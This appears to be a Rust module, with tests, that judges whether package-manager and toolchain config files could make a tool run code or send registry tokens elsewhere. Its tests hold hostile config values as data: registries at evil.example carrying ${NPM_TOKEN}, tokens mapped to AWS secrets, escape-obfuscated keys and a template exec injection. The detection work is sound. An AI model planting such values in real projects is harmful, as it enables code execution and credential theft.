//! Tells the harmless contents of files that may name programs. Contents are read the way the program that obeys the
//! file reads them. What cannot be parsed, and any unknown setting, counts as harmful.

use std::path::Path;

use jsonc_parser::ast::{ObjectProp, Value};
use jsonc_parser::{CollectOptions, ParseOptions, parse_to_ast};
use toml_edit::Document;

use crate::shell::{WordList, is_in, is_number};

/// Objects and lists in a JSON file; a file with more may be nested too deeply for the parser, which calls itself.
const MAX_BRACKETS: usize = 100;

/// The variables of the environment that hold the token of a registry. Any other would give the registry a secret.
const TOKENS: &[(&str, &[&str])] = &[
    ("registry.npmjs.org", &["NODE_AUTH_TOKEN", "NPM_TOKEN"]),
    ("npm.pkg.github.com", &["GITHUB_TOKEN"]),
];

/// The settings of Yarn that name registries.
const YARN_REGISTRIES: &[&str] =
    &["npmPublishRegistry:", "npmRegistries:", "npmRegistryServer:", "npmScopes:"];

// The settings of each program that are harmless, one a line.
const YARN_SETTINGS: &str = include_str!("settings/yarn.txt");
const YARN_CLASSIC_SETTINGS: &str = include_str!("settings/yarn_classic.txt");
const NPM_SETTINGS: &str = include_str!("settings/npm.txt");
const PNPM_SETTINGS: &str = include_str!("settings/pnpm.txt");
/// Settings of LuaLS, and the first parts of others.
const LUA_SETTINGS: &str = include_str!("settings/lua.txt");

/// The settings of one registry, after its address.
const NPM_REGISTRY_SETTINGS: WordList = "_auth _authToken _password always-auth email username";

/// Never: the file is a program, or its settings are not told apart.
pub(in crate::permission) fn never(_folder: &Path, _text: &str) -> bool {
    false
}

/// The name of a channel, or TOML.
pub(super) fn rust_toolchain(_folder: &Path, text: &str) -> bool {
    let Ok(file) = Document::parse(text) else {
        return is_plain_word(text.trim());
    };
    file.as_table().iter().all(|(name, settings)| {
        name == "toolchain"
            && settings.as_table_like().is_some_and(|settings| {
                settings.iter().all(|(key, value)| match key {
                    "channel" => value.as_str().is_some_and(is_plain_word),
                    _ => is_in("components profile targets", key),
                })
            })
    })
}

/// A program and its versions in each line.
pub(super) fn tool_versions(_folder: &Path, text: &str) -> bool {
    // In mise it is a template, comments included.
    !text.contains('{')
        && text.lines().all(|line| {
            let mut words = line.split('#').next().unwrap_or_default().split_whitespace();
            words.next().is_none_or(|name| is_plain_word(name.trim_end_matches(':')))
                && words.all(|word| {
                    let prefixes = ["ref:", "prefix:", "latest:"];
                    let version = prefixes.iter().find_map(|prefix| word.strip_prefix(prefix));
                    is_plain_word(version.unwrap_or(word))
                })
        })
}

/// Versions in lines, perhaps with the names of their programs.
pub(in crate::permission) fn versions(_folder: &Path, text: &str) -> bool {
    text.lines().all(|line| {
        let (words, comment) = line.split_once('#').unwrap_or((line, ""));
        words.split_whitespace().all(is_version_range) && is_plain_comment(comment)
    })
}

fn is_version_range(word: &str) -> bool {
    let prefixes = ["lts/", "latest:"];
    let version = prefixes.iter().find_map(|prefix| word.strip_prefix(prefix)).unwrap_or(word);
    !version.contains("..")
        && !version.starts_with('.')
        && version.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._+-=^~<>*".contains(&byte))
}

/// Versions. All other words may name a program or a folder beside the file.
pub(super) fn python_version(_folder: &Path, text: &str) -> bool {
    text.lines().all(|line| match line.strip_prefix('#') {
        Some(comment) => is_plain_comment(comment),
        None => line.split_whitespace().all(is_python_version),
    })
}

fn is_python_version(word: &str) -> bool {
    let names = ["cpython@", "pypy@", "graalpy@", "python@"];
    let with_suffix = names.iter().find_map(|name| word.strip_prefix(name)).unwrap_or(word);
    let version = with_suffix.strip_suffix('t').unwrap_or(with_suffix);
    let end = version.find(|character: char| !matches!(character, '0'..='9' | '.'));
    let (number, pre_release) = version.split_at(end.unwrap_or(version.len()));
    let pre_number = ["rc", "a", "b"].iter().find_map(|kind| pre_release.strip_prefix(kind));
    number.split('.').all(is_number)
        && (pre_release.is_empty() || pre_number.is_some_and(is_number))
}

/// The path of a system Python, or of one in the project's `.venv/bin`, which is protected.
pub(super) fn pdm_python(folder: &Path, text: &str) -> bool {
    let path = Path::new(text.trim());
    let environment = folder.join(".venv");
    let folders = [Path::new("/usr/bin"), &environment.join("bin"), &environment.join("Scripts")];
    path.parent().is_some_and(|parent| folders.contains(&parent))
        && path.file_name().and_then(|name| name.to_str()).is_some_and(is_plain_word)
}

/// A token in a variable is for npm's own registry, so no other one is named beside it.
pub(super) fn yarnrc_yml(_folder: &Path, text: &str) -> bool {
    let own_registry = TOKENS[0].0;
    let names_registry = || {
        let own_line = format!("npmRegistryServer: \"https://{own_registry}\"");
        text.lines()
            .any(|line| line != own_line && YARN_REGISTRIES.iter().any(|key| line.starts_with(key)))
    };
    let mut variables = text.lines().filter(|line| may_have_variable(line)).peekable();
    has_only_yaml_keys(text, YARN_SETTINGS)
        && (variables.peek().is_none() || !names_registry())
        && variables.all(|line| {
            let value = line.strip_prefix("npmAuthToken:");
            value.is_some_and(|value| is_token_of(own_registry, value.trim().trim_matches('"')))
        })
}

pub(super) fn pnpm_workspace(_folder: &Path, text: &str) -> bool {
    !may_have_variable(text) && has_only_yaml_keys(text, PNPM_SETTINGS)
}

/// A setting and one value in each line.
pub(super) fn yarnrc(_folder: &Path, text: &str) -> bool {
    is_plain_text(text)
        && text.lines().filter(|line| !line.is_empty() && !line.starts_with('#')).all(|line| {
            let (key, value) = line.split_once(' ').unwrap_or((line, ""));
            is_listed(YARN_CLASSIC_SETTINGS, key) && is_plain_value(value)
        })
}

fn is_plain_value(value: &str) -> bool {
    let quoted = value.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
    match quoted {
        Some(inner) => !inner.contains('"') && !may_have_variable(inner),
        None => value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".^~-".contains(&byte)),
    }
}

/// `key=value` in each line. Keys are neither quoted nor escaped. The only variables are tokens of a registry that is
/// told to its own.
pub(super) fn npmrc(_folder: &Path, text: &str) -> bool {
    text.split(['\n', '\r']).map(str::trim_ascii).all(|line| {
        let (before, after) = line.split_once('=').unwrap_or((line, ""));
        let key = before.trim_ascii();
        let value = after.trim_ascii();
        let of_registry = key.strip_prefix("//").and_then(|rest| rest.rsplit_once(':'));
        let scope = key.strip_prefix('@').and_then(|rest| rest.strip_suffix(":registry"));
        let has_own_token = of_registry
            .is_some_and(|(address, _)| is_token_of(address.trim_end_matches('/'), value));
        let is_harmless = is_listed(NPM_SETTINGS, key)
            || key == "ignore-scripts" && value == "true"
            || scope.is_some_and(is_plain_word)
            || of_registry.is_some_and(|(address, key)| {
                is_in(NPM_REGISTRY_SETTINGS, key)
                    && address.split(['/', ':']).all(|part| part.is_empty() || is_plain_word(part))
            });
        line.is_empty()
            || line.starts_with(['#', ';'])
            || is_harmless && (has_own_token || !may_have_variable(value))
    })
}

/// JSON with line comments, whose keys may be written as paths. LuaLS takes `/*/` for a whole comment, and every sign
/// for the quote before a key.
pub(super) fn luarc(_folder: &Path, text: &str) -> bool {
    fn is_harmless(parent: &str, property: &ObjectProp) -> bool {
        let whole_path = format!("{parent}{}", property.name.as_str());
        let path = whole_path.strip_prefix("Lua.").unwrap_or(&whole_path);
        let is_known = LUA_SETTINGS.lines().any(|known| {
            let rest = path.strip_prefix(known);
            rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
        });
        is_known
            || property.value.as_object().is_some_and(|object| {
                let path = format!("{path}.");
                object.properties.iter().all(|property| is_harmless(&path, property))
            })
    }
    let brackets = text.matches(['{', '[']).count();
    if brackets > MAX_BRACKETS || text.contains("/*") || !is_plain_text(text) {
        return false;
    }
    let options = ParseOptions {
        allow_loose_object_property_names: false,
        allow_missing_commas: false,
        allow_single_quoted_strings: false,
        allow_extended_string_escapes: false,
        ..ParseOptions::default()
    };
    let parsed = parse_to_ast(text, &CollectOptions::default(), &options);
    match parsed.ok().and_then(|parsed| parsed.value) {
        Some(Value::Object(object)) => {
            object.properties.iter().all(|property| is_harmless("", property))
        }
        _ => false,
    }
}

/// Returns true if the top-level keys of a YAML text are all among these. Works line by line: what is indented below a
/// key, or is an item of its list, belongs to the key, whatever it is.
fn has_only_yaml_keys(text: &str, known: &str) -> bool {
    let mut is_below_key = false;
    is_plain_text(text)
        && text.lines().all(|line| {
            let content = line.trim_start_matches(' ');
            let is_key = line.split_once(':').is_some_and(|(key, value)| {
                is_listed(known, key) && (value.is_empty() || value.starts_with(' '))
            });
            let belongs = content.len() < line.len() || line.starts_with("- ") || line == "-";
            // Some parsers take a tab for no indentation.
            let is_harmless = !content.starts_with('\t')
                && (content.is_empty()
                    || content.starts_with('#')
                    || is_key
                    || is_below_key && belongs
                    || !is_below_key && line == "---");
            is_below_key |= is_key;
            is_harmless
        })
}

/// Returns true if a list has this setting.
fn is_listed(settings: &str, key: &str) -> bool {
    settings.lines().any(|known| known == key)
}

/// Returns true if a text has no character that ends a line for some programs and not for others.
fn is_plain_text(text: &str) -> bool {
    text.replace("\r\n", "\n").chars().all(|character| {
        matches!(character, '\n' | '\t')
            || !character.is_control() && !matches!(character, '\u{2028}' | '\u{2029}' | '\u{feff}')
    })
}

/// Returns true for names and versions, which are no path in any system.
fn is_plain_word(word: &str) -> bool {
    !word.is_empty()
        && !word.starts_with('.')
        && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._+-".contains(&byte))
}

/// Returns true if a text may have a variable, an escaped one included: programs replace it by its value.
fn may_have_variable(text: &str) -> bool {
    text.contains("${") || text.contains('\\')
}

/// Returns true if a value is a variable with the token of the registry on this host.
fn is_token_of(host: &str, value: &str) -> bool {
    let variable = value.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
    // The characters behind the name say what becomes of an unset variable.
    let name = variable.map(|variable| variable.trim_end_matches([':', '-', '?']));
    let names = TOKENS.iter().filter(|(registry, _)| *registry == host).flat_map(|token| token.1);
    name.is_some_and(|name| names.into_iter().any(|token| *token == name))
}

/// Returns true if a comment is harmless even for a program that reads its words as versions.
fn is_plain_comment(comment: &str) -> bool {
    !comment.contains(['/', '\\', ':', '{'])
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use crate::permission::ProtectedPaths;

    #[test]
    fn some_files_run_something_only_with_some_contents() {
        for (path, content, expected) in [
            ("rust-toolchain.toml", "[toolchain]\nchannel = 'stable'", false),
            ("rust-toolchain", "[toolchain]\nchannel = '1.88'\ncomponents = ['clippy']", false),
            ("rust-toolchain", "nightly-2026-01-01\n", false),
            ("rust-toolchain", "", false),
            ("a/rust-toolchain.toml", "[toolchain]\npath = '../x'", true),
            ("rust-toolchain.toml", "[toolchain]\n\"p\\u0061th\" = '/ws/tc'", true),
            ("rust-toolchain.toml", "toolchain.\"\\x70ath\" = '/ws/tc'", true),
            ("rust-toolchain.toml", "[toolchain]\nchannel = '/ws/tc'", true),
            ("rust-toolchain.toml", "[toolchain]\nchannel = 'stable'\nother = 1", true),
            ("rust-toolchain.toml", "toolchain = { channel = 'stable', targets = [] }", false),
            ("rust-toolchain.toml", "toolchain.path = '../x'", true),
            ("rust-toolchain.toml", "[[toolchain]]\nchannel = 'stable'", true),
            ("rust-toolchain.toml", "toolchain = 'stable'", true),
            ("rust-toolchain", "/home/u/ws/tc", true),
            ("rust-toolchain", "../tc", true),
            ("rust-toolchain", "..", true),
            ("rust-toolchain", "C:\\ws\\tc", true),
            (".tool-versions", "nodejs 20.1.0 18 # ours\nruby ref:v3\n\n# x", false),
            (".tool-versions", "nodejs path:../x", true),
            (".tool-versions", "nodejs ../x", true),
            (".tool-versions", "# {{ exec(command='x') }}", true),
            (".python-version", "3.12.1\n", false),
            (".python-version", "# ours\ncpython@3.13t\n3.14.0rc1\n", false),
            (".python-version", "3.12\n# path:tools", true),
            (".python-version", "3.12\n# /ws/tools", true),
            (".python-version", "./mypython", true),
            (".python-version", "mypython", true),
            (".python-version", "3.12x", true),
            (".python-version", "python", true),
            (".python-versions", "3.12 ./mypython", true),
            (".nvmrc", "v20.1\n", false),
            (".nvmrc", "lts/* # ours\n", false),
            (".nvmrc", "lts/iron", false),
            (".node-version", ">=18", false),
            (".ruby-version", "ruby-3.3.0", false),
            (".java-version", "temurin-21.0.2+13", false),
            (".sdkmanrc", "# ours\njava=21.0.2-tem\n", false),
            (".terraform-version", "latest:^1.5", false),
            (".nvmrc", "path:./evil", true),
            (".node-version", "20\n# path:evil", true),
            (".ruby-version", "../../ws/evil", true),
            (".go-version", "..", true),
            (".sdkmanrc", "java=path:evil", true),
            (".java-version", "ref:../evil", true),
            (".terraform-version", "{{ exec(command='x') }}", true),
            (".pdm.toml", "[python]\npath = '/ws/evil'", true),
            (".corepack.env", "COREPACK_NPM_REGISTRY=https://evil.example", true),
            (".yarnrc.yml", "nodeLinker: node-modules\n\nnpmScopes:\n  x:\n    y: 'z'\n", false),
            (".yarnrc.yml", "# ours\r\nenableTelemetry: false\r\n", false),
            (".YARNRC.yml", "yarnPath: ./x.cjs", true),
            (".yarnrc.yml", "\"yarn\\x50ath\": ./y.cjs", true),
            (".yarnrc.yml", "? yarnPath\n: ./y.cjs", true),
            (".yarnrc.yml", "{nodeLinker: x, yarnPath: ./y.cjs}", true),
            (".yarnrc.yml", "nodeLinker: x\n\tyarnPath: ./y.cjs", true),
            (".yarnrc.yml", "  yarnPath: ./y.cjs", true),
            (".yarnrc.yml", "nodeLinker: x\ryarnPath: ./y.cjs", true),
            (".yarnrc.yml", "nodeLinker: x\u{2028}yarnPath: ./y.cjs", true),
            (".yarnrc.yml", "--- {yarnPath: ./y.cjs}", true),
            (".yarnrc.yml", "<<: {yarnPath: ./y.cjs}", true),
            (".yarnrc.yml", "plugins:\n  - ./y.cjs", true),
            (".yarnrc.yml", "npmAuthToken: \"${NPM_TOKEN:-}\"\nnpmAlwaysAuth: true", false),
            (
                ".yarnrc.yml",
                "npmRegistryServer: \"https://registry.npmjs.org\"\nnpmAuthToken: ${NPM_TOKEN}",
                false,
            ),
            (".yarnrc.yml", "npmRegistryServer: https://r.example", false),
            (
                ".yarnrc.yml",
                "npmRegistryServer: https://evil.example\nnpmAuthToken: ${NPM_TOKEN}",
                true,
            ),
            (
                ".yarnrc.yml",
                "npmRegistryServer: https://registry.npmjs.org\n  @evil.example\nnpmAuthToken: ${NPM_TOKEN}",
                true,
            ),
            (".yarnrc.yml", "npmAuthToken: ${AWS_SECRET_ACCESS_KEY}", true),
            (".yarnrc.yml", "npmAuthToken: \"\\x24{AWS_SECRET_ACCESS_KEY}\"", true),
            (".yarnrc.yml", "npmScopes:\n  x:\n    npmAuthToken: ${NPM_TOKEN}", true),
            (".yarnrc.yml", "npmRegistryServer: https://evil.example/${NPM_TOKEN}", true),
            ("pnpm-workspace.yaml", "overrides:\n  x: https://evil.example/${NPM_TOKEN}", true),
            ("pnpm-workspace.yaml", "packages:\n- 'packages/*'\ncatalog:\n  x: ^1", false),
            ("pnpm-workspace.yaml", "packages: []\npnpmfile: ./y.cjs", true),
            ("pnpm-workspace.yaml", "scriptShell: ./sh", true),
            (".yarnrc", "registry \"https://registry.npmjs.org\"\nsave-prefix ~", false),
            (".yarnrc", "registry \"https://evil.example/${NPM_TOKEN}\"", true),
            (".yarnrc", "yarn-path \"./y.js\"", true),
            (".yarnrc", "\"yarn-path\" \"./y.js\"", true),
            (".yarnrc", "registry \"x\" yarn-path \"./y.js\"", true),
            (".npmrc", "registry=https://npm.pkg.github.com/\n; x\nsave-exact = true", false),
            (".npmrc", "@x:registry=https://y\n//y/z/:_authToken=token\nfund", false),
            (".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}", false),
            (".npmrc", "//registry.npmjs.org/:_authToken = ${NODE_AUTH_TOKEN?}", false),
            (".npmrc", "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}", false),
            (".npmrc", "//evil.example/:_authToken=${NPM_TOKEN}", true),
            (".npmrc", "//registry.npmjs.org/:_authToken=${AWS_SECRET_ACCESS_KEY}", true),
            (".npmrc", "//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}", true),
            (".npmrc", "//evil.example/:_authToken=\"\\u0024{AWS_SECRET_ACCESS_KEY}\"", true),
            (".npmrc", "registry=https://evil.example/${NPM_TOKEN}/", true),
            (".npmrc", "@x:registry=https://evil.example/${NPM_TOKEN}/", true),
            (".npmrc", "public-hoist-pattern[]=*eslint*", false),
            (".npmrc", "script-shell=./x", true),
            (".npmrc", "\"script\\u002dshell\" = ./x", true),
            (".npmrc", "script-shell${XX?}=./x", true),
            (".npmrc", "git\t=./x", true),
            (".npmrc", "git  =./x", true),
            (".npmrc", "fund=true\rgit=./x", true),
            (".npmrc", "globalconfig=./g.rc", true),
            (".npmrc", "userconfig=./g.rc", true),
            (".npmrc", "prefix=./pf", true),
            (".npmrc", "init-module=./i.js", true),
            (".npmrc", "ignore-scripts=false", true),
            (".npmrc", "ignore-scripts = true", false),
            (".npmrc", "//y/:tokenHelper=./x", true),
            (".npmrc", "[fund]", true),
            (".pnpmfile.cjs", "", true),
            (".pnpmfile.mjs", "", true),
            (
                ".luarc.json",
                "// x\n{\"runtime\": {\"version\": \"Lua 5.4\"}, \"diagnostics.globals\": []}",
                false,
            ),
            (
                ".luarc.json",
                "{\"Lua.diagnostics\": {\"globals\": [\"vim\"]}, \"Lua\": {\"hint.enable\": true}}",
                false,
            ),
            (".luarc.json", "{\"diagnostics\": {}, /*/ \"runtime.plugin\": \"x.lua\" /*/ }", true),
            (
                ".luarc.json",
                "{'diagnostics.\": {}, \"runtime.plugin\": \"x.lua\", \"hint': 1}",
                true,
            ),
            (".luarc.json", "{diagnostics: {}}", true),
            (".luarc.json", "{\"diagnostics\": {},}", false),
            (".luarc.json", "{\"diagnostics\": {}} // x\r{\"runtime.plugin\": \"x.lua\"}", true),
            (".luarc.json", "{\"runtime.plugin\": \"x.lua\"}", true),
            (".luarc.json", "{\"runtime.plu\\u0067in\": \"x.lua\"}", true),
            (".luarc.json", "{\"Lua\": {\"runtime\": {\"plugin\": \"x.lua\"}}}", true),
            (".luarc.jsonc", "{\"workspace.userThirdParty\": [\".\"]}", true),
            (".luarc.json", "[", true),
            ("/ws/.pdm-python", "/ws/.venv/bin/python\n", false),
            ("/ws/.pdm-python", "/usr/bin/python3.12", false),
            ("/ws/.pdm-python", "/ws/.venv/Scripts/python.exe", false),
            ("/ws/.pdm-python", "/ws/.venv/evil", true),
            ("/ws/.pdm-python", "/ws/.venv/bin/x/evil", true),
            ("/ws/.pdm-python", "/ws/.venv/lib/bin/python", true),
            ("/ws/.pdm-python", "/ws/evil", true),
            ("/ws/.pdm-python", "/usr/../ws/evil", true),
            ("/ws/.pdm-python", "/ws/.venv/bin/../../evil", true),
            ("/ws/.pdm-python", "evil", true),
        ] {
            let runs = ProtectedPaths::runs_something(Path::new(path), content.as_bytes());
            assert_eq!(runs, Some(expected), "{path}: {content}");
        }
        let runs = ProtectedPaths::runs_something;
        assert_eq!(runs(Path::new(".vscode/tasks.json"), b"{}"), None);
        assert_eq!(runs(Path::new(".npmrc"), b"fund=\xff"), Some(true), "it is no text");
    }
}
